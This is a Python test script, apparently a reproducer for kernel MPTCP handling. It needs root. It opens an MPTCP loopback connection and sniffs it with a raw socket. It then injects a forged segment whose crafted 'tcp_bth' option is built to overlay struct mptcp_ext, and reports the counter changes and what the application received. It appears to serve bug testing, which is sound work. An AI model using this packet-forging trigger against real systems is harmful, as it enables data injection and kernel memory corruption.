# SPDX-License-Identifier: BSD-3-Clause
"""
Sends an MPTCP connection over loopback a segment with tcp_bth and no MPTCP option.
Prints as JSON what MPTCP counted for it and what the application was given: root.
"""

import json
import socket
import struct
import time
from pathlib import Path

from harness.segments import ETHERTYPE_IPV4, Segment

IPPROTO_MPTCP = 262
ETH_P_ALL = 3
PSH_ACK = 0x18
SETTLE_S = 0.5
# As struct mptcp_ext of an overlay with the target address at its end: a mapping without end.
TARGET, KEY = 1, 0x10000


def mptcp_counters() -> dict[str, int]:
    lines = [line.split() for line in Path("/proc/net/netstat").read_text().splitlines() if line.startswith("MPTcpExt:")]
    return dict(zip(lines[0][1:], map(int, lines[1][1:])))


def write_option(seq: int, length: int) -> bytes:
    """tcp_bth ver 1, WRITE_ONLY with a RETH."""
    return struct.pack("!BBHBBHIIQII", 253, 32, 0x5150, 1, 0x0A, 0, seq, length, TARGET, KEY, length)


def connection() -> tuple[socket.socket, socket.socket]:
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    client = socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
    client.connect(listener.getsockname())
    return client, listener.accept()[0]


def last_sent(tap: socket.socket, port: int) -> Segment:
    """The client's last segment with payload, and its newest acknowledgement."""
    last, ack = None, 0
    tap.setblocking(False)
    try:
        while True:
            segment = Segment.parse(tap.recv(65536))
            if segment and segment.sport == port:
                last = segment if segment.payload else last
                ack = segment.ack
    except BlockingIOError:
        return last.but(ack=ack)


def main() -> None:
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    tap.bind(("lo", 0))
    client, server = connection()
    for _ in range(3):
        client.sendall(b"to the server")
        server.recv(100)
        server.sendall(b"to the client")
        client.recv(100)
    time.sleep(SETTLE_S)
    last = last_sent(tap, client.getsockname()[1])
    before = mptcp_counters()
    seq, payload = last.seq + len(last.payload), b"forged bytes"
    forged = last.but(seq=seq, flags=PSH_ACK, options=write_option(seq & 0xFFFFFFFF, len(payload)), payload=payload)
    tap.send(bytes(12) + struct.pack("!H", ETHERTYPE_IPV4) + forged.packet())
    time.sleep(SETTLE_S)
    server.setblocking(False)
    try:
        given = server.recv(100).decode()
    except OSError as error:
        given = type(error).__name__
    after = mptcp_counters()
    print(json.dumps({"counted": {k: v - before[k] for k, v in after.items() if v != before[k]}, "given": given}))


main()
